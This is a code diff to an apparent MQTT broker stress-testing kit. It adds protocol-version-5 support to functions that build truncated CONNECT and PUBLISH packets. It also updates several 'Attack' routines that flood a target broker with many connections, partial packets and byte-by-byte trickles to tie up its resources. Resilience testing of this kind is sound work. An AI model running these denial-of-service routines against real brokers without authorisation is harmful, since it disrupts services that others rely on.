@@ -18,26 +18,26 @@ function headOf(type: number, length: number): Buffer {
 }
 
 /** A PUBLISH of `length` bytes behind the fixed header, without its last byte. */
-function partialPublish(length: number): Buffer {
+function partialPublish(length: number, version: 4 | 5): Buffer {
   const topic = Buffer.from('telemetry/v1/truck-8')
   const start = Buffer.concat([
     headOf(0x32, length),
     Buffer.from([0, topic.length]),
     topic,
-    Buffer.from([0, 1]),
+    Buffer.from(version === 5 ? [0, 1, 0] : [0, 1]),
   ])
-  const rest = Buffer.alloc(length - topic.length - 4 - 1, 0x78)
+  const rest = Buffer.alloc(length - topic.length - version - 1, 0x78)
   return Buffer.concat([start, rest])
 }
 
 /** A CONNECT of `length` bytes behind the fixed header, without its last byte: a long password is missing. */
-function partialConnect(length: number): Buffer {
+function partialConnect(length: number, version: 4 | 5): Buffer {
   const id = Buffer.from('partial')
   const user = Buffer.from('fleet')
   const head = Buffer.concat([
     Buffer.from([0, 4]),
     Buffer.from('MQTT'),
-    Buffer.from([4, 0xc2, 0, 0, 0, id.length]),
+    Buffer.from([version, 0xc2, 0, 0, ...(version === 5 ? [0] : []), 0, id.length]),
     id,
     Buffer.from([0, user.length]),
     user,
@@ -80,7 +80,7 @@ function beforeConnect(name: string, spread: boolean, count: number): Attack {
       kit.crowd(count, async (index) => {
         const socket = await kit.open(from(spread, index))
         if (socket === null) return kit.pause(200)
-        if (await kit.write(socket, partialConnect(64 * 1024))) await stay(kit, socket)
+        if (await kit.write(socket, partialConnect(64 * 1024, kit.target.version))) await stay(kit, socket)
         socket.destroy()
         return kit.pause(200)
       }),
@@ -97,7 +97,7 @@ function afterConnect(name: string, spread: boolean, length: number): Attack {
       kit.crowd(600, async (index, turn) => {
         const socket = await kit.join(`partial-${index}-${turn}`, from(spread, index))
         if (socket === null) return kit.pause(200)
-        if (await kit.write(socket, partialPublish(length))) await stay(kit, socket)
+        if (await kit.write(socket, partialPublish(length, kit.target.version))) await stay(kit, socket)
         socket.destroy()
         return kit.pause(200)
       }),
@@ -118,7 +118,7 @@ export const partialPackets: readonly Attack[] = [
       kit.crowd(600, async (index, turn) => {
         const socket = await kit.join(`trickle-${index}-${turn}`, from(true, index))
         if (socket === null) return kit.pause(200)
-        if (await kit.write(socket, partialPublish(mib).subarray(0, mib / 2)))
+        if (await kit.write(socket, partialPublish(mib, kit.target.version).subarray(0, mib / 2)))
           await hold(kit, socket, 1000, () => Buffer.from('x'))
         socket.destroy()
         return kit.pause(200)
@@ -131,7 +131,12 @@ export const partialPackets: readonly Attack[] = [
       kit.crowd(1000, async (index) => {
         const socket = await kit.open(from(true, index))
         if (socket === null) return kit.pause(200)
-        const bytes = Buffer.concat([partialConnect(200), Buffer.from('x'), partialPublish(2000)])
+        const { version } = kit.target
+        const bytes = Buffer.concat([
+          partialConnect(200, version),
+          Buffer.from('x'),
+          partialPublish(2000, version),
+        ])
         let at = 0
         await hold(kit, socket, 100, () => bytes.subarray(at, (at += 1)))
         socket.destroy()
